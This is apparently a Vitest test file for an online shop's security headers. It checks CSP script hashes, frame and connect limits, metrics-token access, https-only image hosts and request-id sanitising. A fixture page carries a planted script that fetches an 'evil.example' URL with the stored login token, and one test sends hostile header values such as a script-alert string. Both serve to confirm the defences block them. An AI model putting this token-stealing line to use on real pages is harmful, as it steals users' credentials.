import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { catalogFileSchema, importCatalog } from '@shop/command-api';
import { loadConfig } from '@shop/platform';
import { startCatalogAdminShop } from '../test-support/shop-fixtures.ts';
import { smallCatalog } from '../test-support/catalog-fixture.ts';
import { TEST_METRICS_TOKEN, api, startTestShop, type TestShop } from '../test-support/shop.ts';
import { tempDir } from '../test-support/temp-dir.ts';
import { signUpVerified, startAccountShop, type AccountShop } from '../test-support/account-kit.ts';
import { scaledTimeout } from '../test-support/time-budget.ts';

/** Issue #13, headers and surfaces: what a page may run, who may frame it, who may read metrics. */

const BOOT = 'window.__boot = {}; /* the boot prefetch */';
const MODULE_BOOT = "import('/assets/app.js');";
/** A script that got into the page after the build (a tampered file, an injection): never allowed. */
const INJECTED = "fetch('https://evil.example/steal?t=' + localStorage.getItem('token'));";
const INDEX = `<!doctype html><html><head><!--first-screen-head--><script>${BOOT}</script><script>${INJECTED}</script></head><body><div id="root"></div><script type="module">${MODULE_BOOT}</script><script type="module" src="/assets/app.js"></script></body></html>`;
const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
/** What the build writes beside index.html: the hashes of its own boot scripts. */
const MANIFEST = { scripts: [sha(BOOT), sha(MODULE_BOOT)] };

/** A reply's policy as directive → sources. */
function directives(response: Response): Map<string, string[]> {
  const policy = response.headers.get('content-security-policy') ?? '';
  return new Map(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name!, sources]),
  );
}

/** A product name an admin might type, full of `String.replace` replacement patterns. */
const TRICKY_NAME = "Gift $& Box $' and $` for $$5";

/** The `script-src` sources of a reply's policy. */
function scriptSources(response: Response): string[] {
  const policy = response.headers.get('content-security-policy') ?? '';
  const directive = policy.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src '));
  return directive ? directive.split(/\s+/).slice(1) : [];
}

describe('security headers on every response', () => {
  const dist = tempDir('shop-ui-csp-');
  let t: TestShop;
  let productId: string;

  beforeAll(async () => {
    mkdirSync(join(dist.path, 'ssr'), { recursive: true });
    mkdirSync(join(dist.path, 'assets'), { recursive: true });
    writeFileSync(join(dist.path, 'index.html'), INDEX);
    writeFileSync(join(dist.path, 'csp-hashes.json'), JSON.stringify(MANIFEST));
    writeFileSync(join(dist.path, 'assets', 'app.js'), 'console.log(1)');
    writeFileSync(join(dist.path, 'ssr', 'route-assets.json'), JSON.stringify({}));
    // A stand-in for the storefront's render: the product's name as the page's heading.
    writeFileSync(
      join(dist.path, 'ssr', 'first-screen.js'),
      `export async function renderFirstScreen(pathname, replies) {
        const product = Object.entries(replies).find(([url]) => url.startsWith('/api/products/'))?.[1];
        return { head: '', body: '<h1>' + (product ? product.name : pathname) + '</h1>' };
      }`,
    );
    t = await startTestShop({ env: { UI_DIST: dist.path, IMAGE_HOSTS: 'https://cdn.example.in/some/path' } });
    const catalog = smallCatalog();
    catalog.products = catalog.products.map((p) => (p.id === catalog.ids.phone ? { ...p, name: TRICKY_NAME } : p));
    productId = catalog.ids.phone;
    await t.shop.awaitProjections(await importCatalog(t.shop.catalog, catalog), ['catalog']);
  });
  afterAll(async () => {
    await t?.close();
    dist.remove();
  });

  it('sends the CSP, nosniff and a referrer policy on pages, API replies, files and errors', async () => {
    for (const path of ['/', '/cart', '/index.html', '/assets/app.js', '/api/category', '/api/nothing-here', '/healthz']) {
      const response = await fetch(t.url + path);
      await response.arrayBuffer();
      const policy = response.headers.get('content-security-policy') ?? '';
      expect(policy, path).toContain("frame-ancestors 'none'");
      expect(policy, path).toContain("object-src 'none'");
      expect(policy, path).toContain("base-uri 'self'");
      const sources = scriptSources(response);
      expect(sources, path).toContain("'self'");
      // The build's inline boot scripts (hashed from the file), and nothing that lets others run.
      expect(sources, path).toEqual(expect.arrayContaining([sha(BOOT), sha(MODULE_BOOT)]));
      expect(sources.filter((s) => s.includes('unsafe') || s === '*' || s.startsWith('http')), path).toEqual([]);
      expect(response.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(response.headers.get('referrer-policy'), path).toBe('strict-origin-when-cross-origin');
    }
  });

  it("allows only the build manifest's boot scripts, never one the served page carries besides", async () => {
    // Pages without a first screen (whose data script the server adds, and allows, on its own).
    for (const path of ['/cart', '/my-account', '/api/category']) {
      const response = await fetch(t.url + path);
      const page = await response.text();
      if (path !== '/api/category') expect(page).toContain(INJECTED);
      const hashes = scriptSources(response).filter((s) => s.startsWith("'sha256-"));
      expect(hashes.sort(), path).toEqual([...MANIFEST.scripts].sort());
      expect(hashes, path).not.toContain(sha(INJECTED));
    }
  });

  it('limits where a page may load from, call, frame and show images from', async () => {
    const policy = directives(await fetch(`${t.url}/cart`).then(async (r) => (await r.arrayBuffer(), r)));
    expect(policy.get('default-src')).toEqual(["'self'"]);
    // Calls only to the shop: an injected script could not post the stored token anywhere.
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    // Images from the shop, data: URLs and the configured https host (as an origin).
    expect(policy.get('img-src')).toEqual(["'self'", 'data:', 'https://cdn.example.in']);
    expect(policy.get('frame-src')).toEqual(["'none'"]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
  });

  it('puts a product name with replacement patterns into the first screen verbatim, its data script allowed by hash', async () => {
    const path = `/product/${productId}`;
    await fetch(t.url + path).then((r) => r.text());
    await expect.poll(async () => (await fetch(t.url + path).then((r) => r.text())).includes('data-first-screen'), { timeout: scaledTimeout(10_000) }).toBe(true);
    const response = await fetch(t.url + path);
    const html = await response.text();
    expect(html).toContain(`<h1>${TRICKY_NAME}</h1>`);
    expect(html).toContain(JSON.stringify(TRICKY_NAME));
    const data = /<script>(window\.__firstScreen=[^<]*)<\/script>/.exec(html)?.[1];
    expect(data).toBeDefined();
    expect(scriptSources(response)).toEqual(expect.arrayContaining([sha(data!), sha(BOOT), sha(MODULE_BOOT)]));
    expect(scriptSources(response)).not.toContain(sha(INJECTED));
  });

  it('serves /metrics only to a scraper with the metrics token', async () => {
    expect((await api(t.url, '/metrics')).status).toBe(401);
    expect((await api(t.url, '/metrics', { token: `${TEST_METRICS_TOKEN}x` })).status).toBe(401);
    expect((await api(t.url, '/metrics', { headers: { Authorization: `Basic ${TEST_METRICS_TOKEN}` } })).status).toBe(401);
    const scraped = await api<string>(t.url, '/metrics', { token: TEST_METRICS_TOKEN });
    expect(scraped.status).toBe(200);
    expect(scraped.body).toContain('http_request_duration_seconds');
  });
});

describe('configured features widen the policy by exactly their script origins', () => {
  it('allows Google sign-in and Razorpay checkout scripts only when they are on', async () => {
    const off = await startTestShop();
    const on = await startTestShop({
      env: { GOOGLE_CLIENT_ID: 'client.apps.googleusercontent.com', PAYMENTS: 'razorpay', RAZORPAY_KEY_ID: 'rzp_test_x', RAZORPAY_KEY_SECRET: 'secret' },
    });
    try {
      const plain = scriptSources(await fetch(`${off.url}/healthz`));
      expect(plain.filter((s) => s.startsWith('http'))).toEqual([]);
      const reply = await fetch(`${on.url}/healthz`);
      const widened = scriptSources(reply);
      expect(widened.filter((s) => s.startsWith('http')).sort()).toEqual(['https://accounts.google.com/gsi/client', 'https://checkout.razorpay.com']);
      // Razorpay's checkout window and Google's sign-in frames, and the calls they make.
      const policy = directives(reply);
      expect(policy.get('frame-src')).toEqual(expect.arrayContaining(['https://api.razorpay.com', 'https://checkout.razorpay.com', 'https://accounts.google.com/gsi/']));
      expect(policy.get('connect-src')).toEqual(expect.arrayContaining(["'self'", 'https://api.razorpay.com']));
      expect(directives(await fetch(`${off.url}/healthz`)).get('frame-src')).toEqual(["'none'"]);
    } finally {
      await off.close();
      await on.close();
    }
  });

  it('does not serve /metrics on the shop port without a metrics token', async () => {
    const t = await startTestShop({ env: { METRICS_TOKEN: '' } });
    try {
      expect((await api(t.url, '/metrics')).status).toBe(404);
    } finally {
      await t.close();
    }
  });
});

describe('image sources', () => {
  it('refuses image hosts that are not https', () => {
    expect(() => loadConfig({ IMAGE_HOSTS: 'http://cdn.example.in' })).toThrow(/IMAGE_HOSTS/);
    expect(loadConfig({ IMAGE_HOSTS: 'https://cdn.example.in, https://img.example.in/x' }).IMAGE_HOSTS).toEqual(['https://cdn.example.in', 'https://img.example.in']);
  });

  it("refuses an admin's plain-http product image, takes https and the shop's own paths", async () => {
    const catalog = smallCatalog();
    const { t, admin } = await startCatalogAdminShop(catalog);
    try {
      const product = {
        name: 'Brass Diya',
        brand: 'Moradabad',
        description: 'Hand-polished brass.',
        price: 499,
        oldPrice: 599,
        countInStock: 5,
        isFeatured: false,
        catId: catalog.ids.fashion,
        subCatId: catalog.ids.shirts,
        productRam: [],
        size: [],
        productWeight: [],
        location: [{ value: 'All', label: 'All' }],
      };
      const plain = await api<{ msg: string }>(t.url, '/api/admin/products', { method: 'POST', token: admin, body: { ...product, images: ['http://cdn.example.in/diya.jpg'] } });
      expect(plain.status).toBe(400);
      expect(plain.body).toMatchObject({ error: true, msg: expect.stringContaining('https://') });
      for (const images of [['https://cdn.example.in/diya.jpg'], ['/uploads/catalog/x.png'], [`${t.url}/images/seed/product/a.svg`]]) {
        expect((await api(t.url, '/api/admin/products', { method: 'POST', token: admin, body: { ...product, images } })).status, images[0]).toBe(201);
      }
      // The catalog file format takes the same rule.
      const file = smallCatalog();
      file.products[0]!.images = ['http://cdn.example.in/a.jpg'];
      expect(catalogFileSchema.safeParse(file).success).toBe(false);
      expect(catalogFileSchema.safeParse(smallCatalog()).success).toBe(true);
    } finally {
      await t.close();
    }
  });
});

describe('client request ids', () => {
  let shop: AccountShop;
  beforeAll(async () => {
    shop = await startAccountShop();
  });
  afterAll(() => shop?.close());

  it('keeps a short plain id, and replaces a long or odd one before it reaches event metadata', async () => {
    const catalog = smallCatalog();
    await shop.t.shop.awaitProjections(await importCatalog(shop.t.shop.catalog, catalog), ['catalog']);
    const { token } = await signUpVerified(shop);
    const hostile = ['x'.repeat(8000), 'abc\tdef', '<script>alert(1)</script>', 'a b', ''];
    const seen: string[] = [];
    // Each request changes the cart (a new quantity), so each writes an event with its id.
    const added = await api<{ _id?: string; id?: string }>(shop.t.url, '/api/cart/add', { method: 'POST', token, body: { productId: catalog.ids.phone, quantity: 1 } });
    const line = added.body._id ?? added.body.id;
    for (const [index, id] of [...hostile, 'req-42.retry_1'].entries()) {
      const reply = await api(shop.t.url, `/api/cart/${line}`, { method: 'PUT', token, body: { quantity: index + 2 }, headers: { 'X-Request-Id': id } });
      expect(reply.status).toBe(200);
      seen.push(reply.headers.get('x-request-id') ?? '');
    }
    expect(seen.at(-1)).toBe('req-42.retry_1');
    for (const [index, id] of seen.slice(0, -1).entries()) {
      expect(id).not.toBe(hostile[index]);
      expect(id).toMatch(/^[\w.-]{1,64}$/);
    }
    const events = await shop.t.shop.events.readAll({ limit: 10_000 });
    const correlations = events.map((e) => e.metadata.correlationId).filter((c): c is string => typeof c === 'string');
    expect(correlations).toContain('req-42.retry_1');
    for (const id of correlations) expect(id.length).toBeLessThanOrEqual(64);
  });
});
